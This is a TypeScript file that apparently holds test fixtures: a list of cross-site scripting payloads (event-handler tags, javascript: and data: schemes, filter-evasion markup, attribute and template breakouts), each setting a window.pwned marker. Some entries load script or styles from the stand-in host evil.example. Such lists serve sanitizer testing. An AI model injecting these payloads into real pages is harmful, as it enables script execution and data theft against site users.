/** What a script tries that hides in a text: markup, attributes, schemes, encodings and templates. Each sets `pwned` when it runs. */
const RUN = 'window.pwned=1';

const TAGS_WITH_EVENTS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'source src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'object data=x onerror',
  'iframe onload',
  'link rel=stylesheet href=x onerror',
  'dialog open onfocusin',
  'div style="animation-name:x" onanimationstart',
  'a href=x autofocus onfocus',
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>opener.pwned=1</script>`,
  `vbscript:${RUN}`,
  `blob:${RUN}`,
];

const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>/*</script><svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<embed src="data:text/html,<script>parent.pwned=1</script>">`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import "//evil.example"</style>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
];

const BREAKING_OUT = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `'-${RUN}-'`,
  `\`;${RUN};//`,
  `\${${RUN}}`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `＜img src=x onerror=${RUN}＞`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];

export const SCRIPT_PAYLOADS: readonly string[] = [
  ...TAGS_WITH_EVENTS.map((tag) => `<${tag}="${RUN}">`),
  ...SCHEMES.map((url) => `<a href="${url}">x</a>`),
  ...MARKUP,
  ...BREAKING_OUT,
];
